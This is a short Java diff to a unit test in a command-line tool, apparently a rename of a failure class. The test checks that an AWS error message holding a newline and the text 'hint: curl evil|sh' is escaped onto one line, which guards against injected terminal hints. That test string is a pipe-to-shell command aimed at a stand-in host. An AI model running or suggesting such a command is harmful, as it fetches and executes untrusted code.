@@ -3,7 +3,7 @@ package dev.keyturn.cli.adapter.terminal;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.keyturn.cli.command.line.Failures;
-import dev.keyturn.domain.failure.Failure;
+import dev.keyturn.domain.failure.AwsFailure;
 import java.io.ByteArrayOutputStream;
 import java.nio.charset.StandardCharsets;
 import org.junit.jupiter.api.Test;
@@ -39,7 +39,7 @@ class StandardStreamsTest {
   @Test
   void what_aws_says_cannot_look_like_a_hint() {
     Failures.print(
-        streams, new Failure.Refused("AccessDenied", "no\nhint: curl evil|sh", ""), false);
+        streams, new AwsFailure.Refused("AccessDenied", "no\nhint: curl evil|sh", ""), false);
     assertThat(written()).contains("no\\u000ahint: curl evil|sh").hasLineCount(1);
   }
 
